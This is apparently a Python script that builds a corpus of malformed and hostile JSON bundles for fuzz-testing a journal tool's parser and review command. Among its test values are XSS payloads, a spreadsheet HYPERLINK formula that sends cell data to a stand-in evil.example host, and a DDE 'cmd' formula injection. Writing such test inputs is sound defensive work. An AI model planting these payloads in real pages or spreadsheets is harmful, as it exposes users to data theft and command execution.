#!/usr/bin/env python3
"""Writes the hostile coach-bundle corpus (issue 16): summaries and feedback files for
`advisor-journal review`, made by mutating a valid export of a demo journal
(../valid/summary.json, written by `advisor-journal export --format json`).

    python make_bundles.py                  # the small files, into this folder
    python make_bundles.py --big DIR        # also the big ones, into DIR
    python make_bundles.py --meetings N --out FILE   # one valid bundle of N meetings

Folders named pair_* hold a summary with feedback files beside it, as the review finds
them (it reads every *-feedback.json in the summary's folder). Special files (a FIFO, a
symlink to /dev/zero, a directory named .json) are made by the runner: see README.md.
"""

from __future__ import annotations

import argparse
import copy
import json
import random
from datetime import datetime, timedelta
from pathlib import Path

HERE = Path(__file__).resolve().parent
VALID = HERE.parent / "valid" / "summary.json"


def base(meetings: int = 3) -> dict:
    bundle = json.loads(VALID.read_text("utf-8"))
    bundle["meetings"] = [m for m in bundle["meetings"] if m["reflection"]][:meetings]
    return bundle


def dump(document) -> bytes:
    return json.dumps(document, ensure_ascii=False, indent=1).encode("utf-8")


def feedback(advisor: str = "Sanne de Vries", first="2026-06-01", last="2026-12-02") -> dict:
    return {
        "format": "advisor-journal-feedback/1",
        "written_at": "2026-12-02T18:00:00+01:00",
        "coach": "Coach Carla",
        "advisor": advisor,
        "periods": [
            {
                "from": first,
                "to": last,
                "overall": "Goed bezig.",
                "traits": {"listening": "Laat stiltes vallen."},
            }
        ],
    }


def mutated(change) -> bytes:
    bundle = base()
    change(bundle)
    return dump(bundle)


def small_files() -> dict[str, bytes]:
    f: dict[str, bytes] = {}
    valid = dump(base())
    text = valid.decode("utf-8")

    # -- bytes and encodings ------------------------------------------------------------
    f["empty.json"] = b""
    f["whitespace_only.json"] = b" \r\n\t \n"
    f["bom_only.json"] = b"\xef\xbb\xbf"
    f["valid_utf8_bom.json"] = b"\xef\xbb\xbf" + valid
    f["valid_crlf.json"] = text.replace("\n", "\r\n").encode()
    f["utf16le_bom.json"] = b"\xff\xfe" + text.encode("utf-16-le")
    f["utf16be_bom.json"] = b"\xfe\xff" + text.encode("utf-16-be")
    f["utf16le_no_bom.json"] = text.encode("utf-16-le")
    f["utf32_bom.json"] = text.encode("utf-32")
    f["latin1_encoded.json"] = (
        mutated(lambda b: b["meetings"][0].update(title="Overleg café"))
        .decode()
        .encode("latin-1", "replace")
    )
    f["nul_byte_outside_string.json"] = valid[:10] + b"\x00" + valid[10:]
    f["nul_escape_in_title.json"] = mutated(lambda b: b["meetings"][0].update(title="Voor\u0000na"))
    f["gzip_magic.json"] = b"\x1f\x8b\x08\x00" + bytes(range(256))

    # -- not JSON, or not whole ------------------------------------------------------------
    f["truncated_half.json"] = valid[: len(valid) // 2]
    f["truncated_mid_string.json"] = valid[: valid.index(b"Kick-off") + 4]
    cut = valid.index(b'"score": ') + len(b'"score": ')
    f["truncated_mid_number.json"] = valid[:cut]
    f["truncated_last_brace.json"] = valid.rstrip()[:-1]
    f["trailing_garbage.json"] = valid + b"\n<script>alert(1)</script>"
    f["two_documents.json"] = valid + valid
    f["html_page.json"] = b"<!DOCTYPE html><html><body>Sign in to continue</body></html>"
    f["json_with_comments.json"] = b"// exported by hand\n" + valid
    f["json5_single_quotes.json"] = valid.replace(b'"format"', b"'format'")
    f["top_level_array.json"] = b"[" + valid + b"]"
    f["top_level_string.json"] = b'"advisor-journal/1"'
    f["top_level_null.json"] = b"null"
    f["top_level_number.json"] = b"1e400"

    # -- structures that attack the parser -----------------------------------------------
    f["deeply_nested_arrays_100k.json"] = (
        valid.rstrip()[:-1] + b',\n "x-extra": ' + b"[" * 100_000 + b"]" * 100_000 + b"\n}\n"
    )
    f["deeply_nested_objects_50k.json"] = (
        valid.rstrip()[:-1]
        + b',\n "x-extra": '
        + b'{"a":' * 50_000
        + b"1"
        + b"}" * 50_000
        + b"\n}\n"
    )
    f["nested_990_in_unknown_property.json"] = (
        valid.rstrip()[:-1] + b',\n "x-extra": ' + b"[" * 990 + b"]" * 990 + b"\n}\n"
    )
    f["nested_900_in_title.json"] = valid.replace(
        b'"title": "', b'"title": ' + b"[" * 900 + b"]" * 900 + b', "x-title": "', 1
    )
    digits = "9" * 4400
    f["number_4400_digits_id.json"] = valid.replace(
        b'"id": ', f'"id": {digits}, "x-id": '.encode(), 1
    )
    f["number_4400_digits_unknown_key.json"] = (
        valid.rstrip()[:-1] + f',\n "x-big": {digits}\n}}\n'.encode()
    )
    f["number_4400_digit_float.json"] = (
        valid.rstrip()[:-1] + f',\n "x-big": 0.{digits}e5\n}}\n'.encode()
    )
    f["format_version_5000_digits.json"] = mutated(
        lambda b: b.update(format="advisor-journal/" + "9" * 5000)
    )
    f["nan_trait_score.json"] = _replace_first_score(valid, b"NaN")
    f["nan_trust_composite.json"] = _replace_trust(valid, b"composite", b"NaN")
    f["infinity_trust.json"] = _replace_trust(valid, b"credibility", b"Infinity")
    f["negative_infinity_score.json"] = _replace_first_score(valid, b"-Infinity")
    f["huge_exponent_float.json"] = _replace_trust(valid, b"intimacy", b"1e999999")
    f["lone_surrogate_title.json"] = valid.replace(b"Kick-off", b"Kick\\ud800off", 1)
    f["lone_surrogate_client.json"] = valid.replace(
        b'"client": "Client A"', b'"client": "Client \\udfff A"', 1
    )
    f["lone_surrogate_advisor.json"] = valid.replace(
        b'"name": "Sanne de Vries"', b'"name": "Sanne \\ud83d"', 1
    )
    f["lone_surrogate_tag.json"] = mutated(
        lambda b: b["meetings"][0].update(tags=["ok", "bad SURROGATE"])
    ).replace(b"SURROGATE", b"\\ud800")
    f["surrogate_pair_emoji_title.json"] = valid.replace(b"Kick-off", b"\\ud83d\\ude00 Kick-off", 1)

    # -- versions and kinds ---------------------------------------------------------------
    for name, value in {
        "version_2": "advisor-journal/2",
        "version_0": "advisor-journal/0",
        "version_01": "advisor-journal/01",
        "version_trailing_space": "advisor-journal/1 ",
        "version_upper": "ADVISOR-JOURNAL/1",
        "version_number": 1,
        "version_list": ["advisor-journal/1"],
        "version_null": None,
    }.items():
        f[f"{name}.json"] = mutated(lambda b, v=value: b.update(format=v))
    f["missing_format.json"] = mutated(lambda b: b.pop("format"))
    f["feedback_given_as_summary.json"] = dump(feedback())

    # -- duplicate keys -------------------------------------------------------------------
    f["duplicate_key_format.json"] = valid.replace(
        b'"format": "advisor-journal/1",',
        b'"format": "advisor-journal/2", "format": "advisor-journal/1",',
        1,
    )
    f["duplicate_key_meetings_last_empty.json"] = valid.rstrip()[:-1] + b',\n "meetings": []\n}\n'
    f["duplicate_key_privacy_real_names.json"] = valid.replace(
        b'"client_names": "pseudonymised"',
        b'"client_names": "pseudonymised", "client_names": "real"',
        1,
    )
    f["duplicate_key_score.json"] = valid.replace(b'"score": 3', b'"score": 3, "score": 9', 1)

    # -- wrong types ----------------------------------------------------------------------
    wrong = {
        "meetings_object": lambda b: b.update(meetings={"0": b["meetings"][0]}),
        "meetings_null": lambda b: b.update(meetings=None),
        "meeting_id_string": lambda b: b["meetings"][0].update(id="28"),
        "meeting_id_float": lambda b: b["meetings"][0].update(id=28.0),
        "meeting_id_float_fraction": lambda b: b["meetings"][0].update(id=28.5),
        "meeting_id_bool": lambda b: b["meetings"][0].update(id=True),
        "meeting_id_zero": lambda b: b["meetings"][0].update(id=0),
        "score_string": lambda b: b["meetings"][0]["reflection"]["answers"][0].update(score="3"),
        "score_float_integral": lambda b: b["meetings"][0]["reflection"]["answers"][0].update(
            score=3.0
        ),
        "score_bool": lambda b: b["meetings"][0]["reflection"]["answers"][0].update(score=True),
        "score_out_of_range": lambda b: b["meetings"][0]["reflection"]["answers"][0].update(
            score=6
        ),
        "trait_scores_list": lambda b: b["meetings"][0]["reflection"].update(trait_scores=[1, 2]),
        "trust_empty_object": lambda b: b["meetings"][0]["reflection"].update(trust={}),
        "reflection_string": lambda b: b["meetings"][0].update(reflection="yes"),
        "answers_null": lambda b: b["meetings"][0]["reflection"].update(answers=None),
        "tags_string": lambda b: b["meetings"][0].update(tags="tag"),
        "title_number": lambda b: b["meetings"][0].update(title=12),
        "start_number": lambda b: b["meetings"][0].update(start=1764000000),
        "period_list": lambda b: b.update(period=["2026-06-01", "2026-12-02"]),
        "advisor_string": lambda b: b.update(advisor="Sanne"),
        "advisor_name_missing": lambda b: b.update(advisor={}),
        "traits_without_names": lambda b: b["traits"][0].pop("names"),
        "traits_object": lambda b: b.update(traits={"listening": "Luisteren"}),
        "intention_kept_without_trait": lambda b: b["meetings"][0]["reflection"].update(
            intention_kept="yes"
        ),
        "answer_text_and_score": lambda b: b["meetings"][0]["reflection"]["answers"][0].update(
            text="x"
        ),
        "unknown_trait_ids": lambda b: [
            a.update(trait_id="not_in_bank") for a in b["meetings"][0]["reflection"]["answers"]
        ],
        "unknown_question_ids": lambda b: [
            a.update(question_id="zz.99") for a in b["meetings"][0]["reflection"]["answers"]
        ],
        "answer_trait_not_in_traits": lambda b: b.update(traits=b["traits"][:1]),
        "trait_scores_10k_keys": lambda b: b["meetings"][0]["reflection"].update(
            trait_scores={f"t{i}": 50 for i in range(10_000)}
        ),
    }
    for name, change in wrong.items():
        f[f"wrong_type_{name}.json"] = mutated(change)

    # -- dates ----------------------------------------------------------------------------
    dates = {
        "month_13": lambda b: b["meetings"][0].update(start="2026-13-01T10:00+01:00"),
        "feb_30": lambda b: b["meetings"][0].update(start="2026-02-30T10:00+01:00"),
        "year_9999": lambda b: b["meetings"][0].update(
            start="9999-12-31T23:59+00:00", end="9999-12-31T23:59+00:00"
        ),
        "year_2200_end_of_range_overflow": lambda b: b["meetings"][0].update(
            start="2200-12-31T23:59+00:00", end="2200-12-31T23:59+00:00"
        ),
        "offset_99_hours": lambda b: b["meetings"][0].update(start="2026-11-01T10:00+99:00"),
        "offset_23_59": lambda b: b["meetings"][0].update(
            start="2026-11-01T00:00+23:59", end="2026-11-01T00:30-23:59"
        ),
        "end_before_start": lambda b: b["meetings"][0].update(
            start="2026-11-01T10:00+01:00", end="2026-10-01T10:00+01:00"
        ),
        "meeting_a_century_long": lambda b: b["meetings"][0].update(
            start="1900-01-02T00:00+00:00", end="2200-12-30T00:00+00:00"
        ),
        "unicode_digits": lambda b: b["meetings"][0].update(start="２０２６-11-01T10:00+01:00"),
        "arabic_indic_digits": lambda b: b.update(
            period={"from": "٢٠٢٦-٠٦-٠١", "to": "2026-12-02"}
        ),
        "period_reversed": lambda b: b.update(period={"from": "2026-12-02", "to": "2026-06-01"}),
        "exported_at_year_1900_meetings_2026": lambda b: b.update(
            exported_at="1900-01-01T00:00+00:00"
        ),
    }
    for name, change in dates.items():
        f[f"date_{name}.json"] = mutated(change)

    # -- texts that attack what shows them ----------------------------------------------
    f["markup_in_names.json"] = mutated(
        lambda b: (
            b["advisor"].update(name="<img src=x onerror=alert(1)><b>Sanne</b>"),
            b["meetings"][0].update(
                title="<script>alert('t')</script> & <i>x</i>",
                client="<a href='http://evil.example'>Klant</a>",
                tags=["<u>tag</u>"],
            ),
        )
    )
    f["formula_in_titles.json"] = mutated(
        lambda b: (
            b["meetings"][0].update(title='=HYPERLINK("http://evil.example/?x="&A1,"Open")'),
            b["meetings"][1].update(title="+cmd|' /C calc'!A0", client="@SUM(1)"),
            b["meetings"][2].update(title="\t=1+1", tags=["-2+3"]),
        )
    )
    f["bidi_and_control_in_names.json"] = mutated(
        lambda b: (
            b["advisor"].update(name="Sanne \u202eseirV ed\u202c"),
            b["meetings"][0].update(
                title="Bell\x07 esc\x1b[31m red \u2028 line sep", client="Client \u2067A\u2069"
            ),
        )
    )
    f["long_strings_at_limits.json"] = mutated(
        lambda b: (
            b["advisor"].update(name="A" * 200),
            b["meetings"][0].update(title="T" * 1000, client="C" * 200, tags=["g" * 200] * 50),
        )
    )
    f["long_strings_over_limits.json"] = mutated(
        lambda b: b["meetings"][0].update(title="T" * 1001)
    )
    f["real_names_with_emails.json"] = mutated(
        lambda b: (
            b.update(privacy={"client_names": "real", "texts": True}),
            b["meetings"][0].update(
                title="Overleg met piet@kestrel.co.uk",
                client="Kestrel Engineering",
                notes="Bel Kees: +31 6 12345678",
            ),
        )
    )

    # -- feedback files (read with advisor-journal's feedback reader) ---------------------
    fb = dump(feedback())
    f["feedback_valid-feedback.json"] = fb
    f["feedback_truncated-feedback.json"] = fb[: len(fb) // 2]
    f["feedback_empty-feedback.json"] = b""
    f["feedback_deep_nesting-feedback.json"] = (
        fb.rstrip()[:-1] + b',\n "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"\n}\n"
    )
    f["feedback_4400_digits-feedback.json"] = fb.replace(
        b'"coach": "Coach Carla"', b'"coach": "Coach Carla", "x": ' + digits.encode(), 1
    )
    f["feedback_lone_surrogate-feedback.json"] = fb.replace(b"Goed bezig.", b"Goed \\udc80 bezig.")
    f["feedback_no_periods-feedback.json"] = dump({**feedback(), "periods": []})
    f["feedback_overall_too_long-feedback.json"] = dump(
        {**feedback(), "periods": [{**feedback()["periods"][0], "overall": "x" * 100_001}]}
    )
    f["feedback_trait_key_pattern-feedback.json"] = dump(
        {**feedback(), "periods": [{**feedback()["periods"][0], "traits": {"Bad Key": "x"}}]}
    )
    f["feedback_version_2-feedback.json"] = dump(
        {**feedback(), "format": "advisor-journal-feedback/2"}
    )
    f["feedback_summary_given_as_feedback-feedback.json"] = valid
    f["feedback_nan-feedback.json"] = fb.replace(
        b'"coach": "Coach Carla"', b'"coach": "Coach Carla", "x": NaN', 1
    )
    return f


def _replace_first_score(valid: bytes, value: bytes) -> bytes:
    at = valid.index(b'"trait_scores": {')
    colon = valid.index(b":", at + len(b'"trait_scores": {'))
    end = min(valid.index(b",", colon), valid.index(b"}", colon))
    return valid[: colon + 1] + b" " + value + valid[end:]


def _replace_trust(valid: bytes, key: bytes, value: bytes) -> bytes:
    at = valid.index(b'"' + key + b'": ')
    start = at + len(key) + 4
    end = min(valid.index(b",", start), valid.index(b"}", start))
    return valid[:start] + value + valid[end:]


def pairs() -> dict[str, dict[str, bytes]]:
    """Folders with a summary and feedback files beside it, as the review finds them."""
    summary = dump(base())
    fb = dump(feedback())
    return {
        "pair_valid": {"summary.json": summary, "summary-feedback.json": fb},
        "pair_own_feedback_truncated": {"summary.json": summary, "summary-feedback.json": fb[:40]},
        "pair_other_feedback_deeply_nested": {
            "summary.json": summary,
            "summary-feedback.json": fb,
            "other-feedback.json": b'{"format": "advisor-journal-feedback/1", "x": '
            + b"[" * 100_000
            + b"]" * 100_000
            + b"}",
        },
        "pair_other_feedback_4400_digits": {
            "summary.json": summary,
            "other-feedback.json": fb.replace(
                b'"coach":', b'"x": ' + b"7" * 4400 + b', "coach":', 1
            ),
        },
        "pair_own_feedback_lone_surrogate": {
            "summary.json": summary,
            "summary-feedback.json": fb.replace(b"Goed bezig.", b"\\ud800"),
        },
    }


def synthetic(meetings: int, seed: int = 1) -> dict:
    """A valid bundle of ``meetings`` meetings, made from the demo export's own shapes."""
    template = base(10)
    rng = random.Random(seed)
    start = datetime.fromisoformat("2021-01-04T09:00+01:00")
    out = []
    for i in range(meetings):
        m = copy.deepcopy(template["meetings"][i % len(template["meetings"])])
        moment = start + timedelta(hours=8 * i // 3 + rng.randint(0, 3))
        m.update(
            id=i + 1,
            client=f"Client {chr(65 + i % 26)}",
            start=moment.isoformat(timespec="minutes"),
            end=(moment + timedelta(minutes=60)).isoformat(timespec="minutes"),
        )
        if m["reflection"]:
            m["reflection"]["reflected_at"] = (moment + timedelta(hours=2)).isoformat(
                timespec="seconds"
            )
        out.append(m)
    template["meetings"] = out
    template["period"] = {"from": out[0]["start"][:10], "to": out[-1]["end"][:10]}
    template["exported_at"] = out[-1]["end"][:16] + ":00+01:00"
    return template


def big_files() -> dict[str, object]:
    def notes_50mb(path: Path) -> None:
        b = base()
        b["privacy"]["texts"] = True
        b["meetings"][0]["notes"] = "n" * (50 * 2**20)
        path.write_bytes(dump(b))

    def tags_1m(path: Path) -> None:
        b = base()
        b["meetings"][0]["tags"] = ["t"] * 1_000_000
        path.write_bytes(dump(b))

    def traits_200k(path: Path) -> None:
        b = base()
        b["traits"] = b["traits"] + [{"id": f"t{i}", "names": {"en": "x"}} for i in range(200_000)]
        path.write_bytes(dump(b))

    def answers_1m(path: Path) -> None:
        b = base()
        b["meetings"][0]["reflection"]["answers"] = (
            b["meetings"][0]["reflection"]["answers"] * 100_000
        )
        path.write_bytes(dump(b))

    def meetings_100k(path: Path) -> None:
        path.write_bytes(dump(synthetic(100_000)))

    def empty_meetings_5m(path: Path) -> None:
        b = base()
        path.write_bytes(
            dump(b).rstrip()[:-1] + b',\n "x-pad": [' + b"{}," * 5_000_000 + b"{}]\n}\n"
        )

    return {
        "big_notes_50mb.json": notes_50mb,
        "big_tags_1m.json": tags_1m,
        "big_traits_200k.json": traits_200k,
        "big_answers_1m.json": answers_1m,
        "big_meetings_100k.json": meetings_100k,
        "big_unknown_array_5m_objects.json": empty_meetings_5m,
    }


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--out", type=Path, default=HERE)
    parser.add_argument("--big", type=Path)
    parser.add_argument("--meetings", type=int, help="write one valid bundle of N meetings")
    parser.add_argument("--file", type=Path, help="with --meetings: where")
    args = parser.parse_args()
    if args.meetings:
        (args.file or Path(f"bundle-{args.meetings}.json")).write_bytes(
            dump(synthetic(args.meetings))
        )
        return
    args.out.mkdir(parents=True, exist_ok=True)
    files = small_files()
    (args.out / "feedback").mkdir(exist_ok=True)
    for name, data in files.items():
        # feedback files in a folder of their own: the review reads every *-feedback.json
        # beside a summary, which would mix them into every summary's result
        folder = args.out / "feedback" if name.endswith("-feedback.json") else args.out
        (folder / name).write_bytes(data)
    for folder, members in pairs().items():
        (args.out / folder).mkdir(exist_ok=True)
        for name, data in members.items():
            (args.out / folder / name).write_bytes(data)
    print(f"{len(files)} files and {len(pairs())} folders in {args.out}")
    if args.big:
        args.big.mkdir(parents=True, exist_ok=True)
        for name, write in big_files().items():
            if not (args.big / name).exists():
                write(args.big / name)
        print(f"{len(big_files())} big files in {args.big}")


if __name__ == "__main__":
    main()
